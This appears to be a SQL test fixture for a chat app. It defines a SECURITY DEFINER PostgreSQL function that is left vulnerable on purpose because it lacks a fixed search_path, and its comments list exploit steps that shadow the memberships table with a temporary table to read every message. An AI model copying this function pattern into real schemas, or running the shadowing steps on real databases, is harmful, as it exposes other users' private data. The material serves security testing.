-- A user shadows the membership table, because the helper lost its search path.
-- about: teams_of_user
-- as: ho_chat_app
-- exploit: SET chat.user_id = '1';
-- exploit: CREATE TEMP TABLE memberships (team_id bigint, user_id bigint);
-- exploit: INSERT INTO memberships VALUES (20, 1);
-- exploit: SELECT body FROM chat.messages;
-- shows: mb-secret
CREATE OR REPLACE FUNCTION chat.teams_of_user() RETURNS bigint[] LANGUAGE plpgsql STABLE SECURITY DEFINER
AS $$ BEGIN RETURN (SELECT array_agg(team_id) FROM memberships WHERE user_id = chat.user_id()); END $$;
